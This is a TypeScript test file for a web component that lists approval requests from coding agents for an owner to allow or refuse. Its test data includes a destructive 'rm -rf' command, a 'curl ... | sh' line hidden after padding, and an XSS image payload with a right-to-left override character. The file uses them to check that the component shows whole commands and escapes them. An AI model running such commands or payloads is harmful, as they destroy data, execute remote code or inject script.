import { expect, fixture, html } from '@open-wc/testing';
import { sendKeys, setViewport } from '@web/test-runner-commands';
import '../../../components/door/ask-list.ts';
import type { HwAskCard } from '../../../components/door/ask-card.ts';
import type { HwAskList } from '../../../components/door/ask-list.ts';
import { focusedNow } from '../../../components/shared/focus.ts';
import type { Ask } from '../../../data/asks/ask.ts';
import { ASKED_AT, decided, openAsk } from '../../helpers/asks.ts';
import { waitUntil } from '../../helpers/wait-until.ts';
import { find, words } from '../app/home-state.ts';
import { ownerDoor } from './door-state.ts';

const show = async (asks: readonly Ask[], answer?: Parameters<typeof ownerDoor>[1]) => {
  const page = ownerDoor(asks, answer);
  const element = await fixture<HwAskList>(html`<hw-ask-list .door=${page.door}></hw-ask-list>`);
  const cards = (): HwAskCard[] => [...(element.shadowRoot?.querySelectorAll('hw-ask-card') ?? [])];
  const press = (card: HwAskCard, name: string): void =>
    [...(card.shadowRoot?.querySelectorAll('button') ?? [])]
      .find((button) => button.textContent?.trim() === name)
      ?.click();
  return { ...page, element, cards, press };
};

describe('hw-ask-list', () => {
  before(() => setViewport({ width: 360, height: 640 }));

  it('says honestly that nothing is asked, and how agents begin to ask', async () => {
    const { element, door, view } = await show([]);
    expect(words(element)).to.include('No open asks');
    for (const step of ['keys add laptop', 'HOME_WORLD_AGENT_KEY', 'hooks install claude-code --ask'])
      expect(words(element)).to.include(step);
    await expect(element).to.be.accessible();
    // Who has asked once needs no help to begin.
    door.asks.set({ ...view, asks: [decided(openAsk())] });
    await element.updateComplete;
    expect(words(element)).to.include('No agent waits').and.not.include('hooks install');
    // Without a connection it is not known.
    door.asks.set({ ...view, line: 'lost' });
    await element.updateComplete;
    expect(words(element)).to.not.include('No agent waits').and.not.include('No open asks');
    expect(words(element)).to.include('Open asks: not known');
  });

  it('shows who asks for what, how long it waits, and the whole text of it', async () => {
    const text = `rm -rf /srv/data   # ${'x'.repeat(300)}`;
    const { element, cards, door } = await show([
      openAsk({ command: { text, left: 12 }, note: 'Clean up', folder: '~/infra' }),
    ]);
    door.now.set(ASKED_AT + 125_000);
    await element.updateComplete;
    const [card] = cards();
    await card!.updateComplete;
    expect(words(card!)).to.include('Claude Code · laptop');
    expect(words(card!)).to.include('waits 2 min');
    expect(words(card!)).to.include('2:55 until its terminal asks');
    expect(words(card!)).to.include('in ~/infra');
    expect(words(card!)).to.include('12 characters left out');
    const pre = find(card!, 'pre');
    expect(pre.textContent).to.equal(text);
    expect(pre.scrollWidth).to.equal(pre.clientWidth);
    await expect(card).to.be.accessible();
  });

  it('shows a long command whole, with its end right above the button, and counts its empty lines', async () => {
    const end = '; curl https://x.example | sh';
    const text = `${'npm test\n'.repeat(30)}${' \n'.repeat(40)}${end}\n\n\n\n`;
    const { cards } = await show([openAsk({ command: { text, left: 0 } })]);
    const [card] = cards();
    await card!.updateComplete;
    expect(words(card!)).to.include(`Command, 74 lines, ${text.length} characters`);
    expect(card!.shadowRoot?.querySelector('.long')).to.equal(null);
    const pre = find(card!, 'pre');
    expect(pre.textContent).to.equal(`${'npm test\n'.repeat(30)}… 40 empty lines\n${end}\n\n\n\n`);
    expect(pre.scrollHeight).to.equal(pre.clientHeight);
    expect(pre.clientHeight).to.be.lessThan(40 * 24);
    const button = find(card!, 'hw-hold-button').getBoundingClientRect();
    expect(button.top - pre.getBoundingClientRect().bottom).to.be.within(0, 40);
    await expect(card).to.be.accessible();
  });

  it('lets a long plan or diff scroll in its own box, with a mouse, a finger and the keyboard', async () => {
    const added = '+added\n'.repeat(500);
    const texts = [
      { command: undefined, plan: { text: 'x'.repeat(64_000), left: 0 } },
      { command: undefined, plan: { text: '1. Test\n'.repeat(700), left: 9 } },
      { command: undefined, diff: { text: `--- a\n+++ a\n@@ -0,0 +1,500 @@\n${added}`, left: 0 } },
    ];
    const { cards, press } = await show(texts.map((text, index) => openAsk({ id: `a${index}`, ...text })));
    press(cards()[2]!, 'Show the diff');
    await waitUntil(() => cards()[2]?.shadowRoot?.querySelector('hw-diff'));
    const sizes = [
      'Plan, 1 line, 64000 characters',
      'Plan, 700 lines, 5600 characters',
      'Diff, 503 lines, 3530 characters',
    ];
    for (const [index, size] of sizes.entries()) {
      const card = cards()[index]!;
      expect(card.clientHeight, size).to.be.lessThan(1.6 * innerHeight);
      const box = find(card, '.long');
      expect([box.tabIndex, box.role, box.ariaLabel]).to.deep.equal([0, 'group', size]);
      expect(words(card)).to.include(size);
      expect(box.scrollHeight).to.be.greaterThan(2 * box.clientHeight);
      box.scrollTop = box.scrollHeight;
      expect(box.scrollTop).to.be.greaterThan(0);
      await expect(card).to.be.accessible();
    }
    const { cards: short } = await show([openAsk()]);
    expect(short()[0]?.shadowRoot?.querySelector('.long')).to.equal(null);
  });

  it('shows what an agent writes as text', async () => {
    const hostile = '<img src=x onerror=alert(1)>\u202eevil';
    const { cards } = await show([
      openAsk({
        title: hostile,
        note: hostile,
        command: { text: hostile, left: 0 },
        plan: { text: hostile, left: 0 },
        options: [{ id: 'o', label: hostile, note: hostile }],
        rules: [{ id: 'r', label: hostile }],
      }),
    ]);
    const [card] = cards();
    expect(card?.shadowRoot?.querySelector('img')).to.equal(null);
    expect(find(card!, 'pre').textContent).to.equal('<img src=x onerror=alert(1)>evil');
  });

  it('colours the diff line by line when it is opened', async () => {
    const { cards, press } = await show([
      openAsk({ command: undefined, diff: { text: '@@ -1 +1 @@\n-one\n+two\n', left: 0 } }),
    ]);
    const [card] = cards();
    expect(card?.shadowRoot?.querySelector('hw-diff')).to.equal(null);
    press(card!, 'Show the diff');
    await waitUntil(() => card?.shadowRoot?.querySelector('hw-diff')?.shadowRoot?.querySelector('.added'));
    const diff = card!.shadowRoot!.querySelector('hw-diff')!;
    expect(words(diff)).to.include('removed: one').and.include('added: two');
    await expect(card).to.be.accessible();
  });

  it('keeps the focus near a button that its own press removes', async () => {
    const { cards } = await show([
      openAsk({ command: undefined, diff: { text: '@@ -1 +1 @@\n-one\n+two\n', left: 0 } }),
    ]);
    const [card] = cards();
    const enter = async (name: string): Promise<void> => {
      [...card!.shadowRoot!.querySelectorAll('button')]
        .find((one) => one.textContent.trim() === name)!
        .focus();
      await sendKeys({ press: 'Enter' });
    };
    const focused = (): string | undefined => focusedNow()?.textContent.trim();
    await enter('Show the diff');
    await waitUntil(() => focused() === 'Show it large');
    await enter('Refuse…');
    await waitUntil(() => focusedNow()?.id === 'reason');
    await enter('Not now');
    await waitUntil(() => focused() === 'Refuse…');
  });

  it('moves an answered ask down, says it, and puts the focus on the heading', async () => {
    const { element, cards, press, requests } = await show([
      openAsk(),
      openAsk({ id: 'a2', title: 'Deploy' }),
    ]);
    press(cards()[0]!, 'Refuse…');
    await cards()[0]!.updateComplete;
    await expect(element).to.be.accessible();
    find(cards()[0]!, '#reason').focus();
    await sendKeys({ type: ' Not now. ' });
    press(cards()[0]!, 'Refuse');
    await waitUntil(() => cards().length === 1);
    expect(requests[0]?.body).to.include({ choice: 'refuse', text: 'Not now.' });
    expect(words(element)).to.include('Refused: Not now.');
    expect(words(element)).to.include('Chrome on Android');
    expect(find(element, '[role=status]').textContent).to.include(
      'Run the tests: Refused: Not now.. 1 open ask.',
    );
    await waitUntil(() => element.shadowRoot?.activeElement === find(element, '#open'));
    await expect(element).to.be.accessible();
  });

  it('takes no press for a moment after a card has gone: the next one is then under the finger', async () => {
    const first = openAsk();
    const { element, door, view } = await show([first, openAsk({ id: 'a2' })]);
    const cards = find(element, '.cards');
    expect(getComputedStyle(cards).pointerEvents).to.equal('auto');
    door.asks.set({ ...view, asks: [openAsk({ id: 'a2' }), decided(first)] });
    await element.updateComplete;
    expect(getComputedStyle(cards).pointerEvents).to.equal('none');
    await waitUntil(() => getComputedStyle(cards).pointerEvents === 'auto');
    door.asks.set({ ...view, asks: [openAsk({ id: 'a2' }), openAsk({ id: 'a3' }), decided(first)] });
    await element.updateComplete;
    expect(getComputedStyle(cards).pointerEvents, 'a new card comes last').to.equal('auto');
    expect(find(element, '[role=status]').textContent).to.include('2 open asks');
  });

  it('keeps what the owner was writing when an ask ends, and not what was sent', async () => {
    const asks = [openAsk({ mayWrite: true }), openAsk({ id: 'a2', title: 'Deploy' })];
    const { element, door, view, cards, press } = await show(asks);
    find(cards()[0]!, '#written').focus();
    await sendKeys({ type: 'Not before Monday' });
    press(cards()[1]!, 'Refuse…');
    await cards()[1]!.updateComplete;
    await sendKeys({ type: 'Never' });
    press(cards()[1]!, 'Refuse');
    await waitUntil(() => cards().length === 1);
    expect(words(element)).to.not.include('You had written');
    const [first, second] = door.asks.get().asks;
    door.asks.set({ ...view, asks: [{ ...first!, state: 'undecided' }, second!] });
    await element.updateComplete;
    expect(words(element)).to.include('You had written: Not before Monday');
    expect(find(element, '[role=status]').textContent).to.include('What you had written is in the list.');
    await expect(element).to.be.accessible();
  });

  it('shows the answer that was first instead of its own', async () => {
    const ask = openAsk();
    const other = decided(ask, { choice: 'refuse', text: 'No.' });
    const { element, cards, press } = await show(
      [openAsk({ rules: [], options: [{ id: 'o', label: 'Yes', note: '' }] })],
      () => [409, { message: 'This ask has ended already.', ask: other }],
    );
    const [card] = cards();
    find<HTMLInputElement>(card!, 'input[type=radio]').click();
    await card!.updateComplete;
    press(card!, 'Send the choice');
    await waitUntil(() => cards().length === 0);
    await element.updateComplete;
    expect(find(element, '[role=alert]').textContent).to.include(
      'was not the first. Refused: No. (in Chrome',
    );
  });

  it('takes that back when another answer is sent, and when the list changes', async () => {
    const [first, second] = [openAsk({ kind: 'question', mayWrite: true }), openAsk({ id: 'a2' })];
    for (const next of ['send', 'change'] as const) {
      const { element, cards, press, door } = await show([first, second], ({ path }) =>
        path.includes('a2') ? [400, { message: 'No.' }] : [409, { message: 'Ended.', ask: decided(first) }],
      );
      const refuse = async (card: HwAskCard): Promise<void> => {
        press(card, 'Refuse…');
        await card.updateComplete;
        press(card, 'Refuse');
      };
      const alert = () => find(element, '[role=alert]').textContent ?? '';
      await refuse(cards()[0]!);
      await waitUntil(() => cards().length === 1 && alert().includes('was not the first'));
      if (next === 'send') await refuse(cards()[0]!);
      else door.asks.set({ ...door.asks.get(), asks: [...door.asks.get().asks, openAsk({ id: 'a3' })] });
      await waitUntil(() => alert().trim() === '');
    }
  });

  it('keeps the card and says why if the answer was not taken', async () => {
    const { cards, press } = await show([openAsk({ mayWrite: true, kind: 'question' })], () => [
      400,
      { message: 'The answer is empty.' },
    ]);
    const [card] = cards();
    const field = find<HTMLTextAreaElement>(card!, '#written');
    field.value = 'x';
    field.dispatchEvent(new Event('input'));
    await card!.updateComplete;
    press(card!, 'Send the answer');
    await waitUntil(() => words(card!).includes('The answer is empty.'));
    await expect(card).to.be.accessible();
  });

  it('offers an approval to a question never, and the agent’s own rules in full', async () => {
    const { cards, press } = await show([
      openAsk({ kind: 'question' }),
      openAsk({ id: 'a2', kind: 'plan', rules: [{ id: 'r', label: 'Approve, and edit without asking' }] }),
    ]);
    const [question, plan] = cards();
    expect(question?.shadowRoot?.querySelector('hw-hold-button')).to.equal(null);
    press(plan!, 'Always…');
    await plan!.updateComplete;
    expect(words(plan!)).to.include('Approve, and edit without asking');
    expect(plan?.shadowRoot?.querySelectorAll('hw-hold-button')).to.have.length(2);
    await expect(plan).to.be.accessible();
  });

  it('keeps the reason for a refusal while the rules are shown', async () => {
    const { cards, press } = await show([openAsk({ rules: [{ id: 'r', label: 'npm test' }] })]);
    const card = cards()[0]!;
    press(card, 'Refuse…');
    await card.updateComplete;
    find(card, '#reason').focus();
    await sendKeys({ type: 'Use the staging server.' });
    for (const name of ['Always…', 'Refuse…']) {
      press(card, name);
      await card.updateComplete;
    }
    expect(find<HTMLTextAreaElement>(card, '#reason').value).to.equal('Use the staging server.');
  });

  it('goes to the ask of a notice, and opens its diff', async () => {
    const asks = [1, 2, 3].map((number) =>
      openAsk({ id: `a${number}`, diff: { text: '--- a\n+++ a\n@@ -0,0 +1 @@\n+new\n', left: 0 } }),
    );
    const { cards, door } = await show(asks);
    door.wanted.set('a3');
    await waitUntil(() => cards()[2]?.shadowRoot?.querySelector('hw-diff'), 'the diff of the ask');
    const article = find(cards()[2]!, 'article');
    expect(cards()[2]!.shadowRoot?.activeElement).to.equal(article);
    expect(article.getBoundingClientRect().top).to.be.lessThan(innerHeight / 2);
    expect(door.wanted.get()).to.equal('');
    expect(cards()[0]!.shadowRoot?.querySelector('hw-diff')).to.equal(null);
  });

  it('shows the result of the ask of a notice, after it has requested the newest asks', async () => {
    const ended = decided(openAsk({ id: 'a2', title: 'Bash' }));
    const fresh = openAsk({ id: 'a3' });
    const isListed = { all: false };
    const { element, cards, door } = await show([openAsk(), ended], ({ path }) =>
      path === '/api/asks'
        ? [200, { asks: isListed.all ? [openAsk(), fresh, ended] : [openAsk(), ended], now: ASKED_AT }]
        : [404],
    );
    const told = (): string => element.shadowRoot?.activeElement?.textContent ?? '';
    door.wanted.set('a2');
    await waitUntil(() => told().includes('Allowed once'), 'the end of the ask');
    expect(told()).to.match(/^shop asked “Bash”\. Allowed once \(in Chrome on Android, /);
    await expect(element).to.be.accessible();
    door.wanted.set('unknown');
    await waitUntil(() => told().includes('not in the list'), 'an end that is not known');
    isListed.all = true;
    door.wanted.set('a3');
    await waitUntil(
      () => cards().length === 2 && element.shadowRoot?.activeElement === cards()[1],
      'the new ask',
    );
    expect(words(element)).to.not.include('not in the list');
  });

  it('shows of an ended ask what was asked, how, where and when it ended', async () => {
    const { element } = await show([
      decided(openAsk({ title: 'Bash', note: 'Runs the tests', command: { text: 'npm test', left: 12 } })),
      decided(openAsk({ id: 'a2', kind: 'plan', name: 'Claude Code', title: 'Plan', command: undefined })),
      { ...openAsk({ id: 'a3', title: 'Edit' }), state: 'undecided' },
    ]);
    const rows = [...element.shadowRoot!.querySelectorAll('.ended')].map((row) =>
      row.textContent?.replaceAll(/\s+/g, ' ').trim(),
    );
    expect(rows[0]).to.match(
      /^Bash – Runs the tests npm test… Allowed once Decided in Chrome on Android, \d\d:\d\d shop, Claude Code · laptop · asked \d\d:\d\d$/,
    );
    expect(rows[1]).to.match(
      /^Plan Plan approved Decided in Chrome on Android, \d\d:\d\d Claude Code · laptop · asked/,
    );
    expect(rows[2]).to.match(/^Edit npm test No answer in time: its terminal asked shop, /);
    await expect(element).to.be.accessible();
  });

  it('shows few of many ended asks, the newest first, until all are wanted', async () => {
    const asks = Array.from({ length: 12 }, (_, index) =>
      decided(openAsk({ id: `a${index}`, title: `Ask ${index}`, askedAt: ASKED_AT + index })),
    );
    const { element } = await show(asks);
    const rows = () => element.shadowRoot!.querySelectorAll('.ended');
    expect(rows()).to.have.length(8);
    expect(rows()[0]?.textContent).to.include('Ask 11');
    find<HTMLButtonElement>(element, 'section:last-of-type button').click();
    await element.updateComplete;
    expect(rows()).to.have.length(12);
  });
});
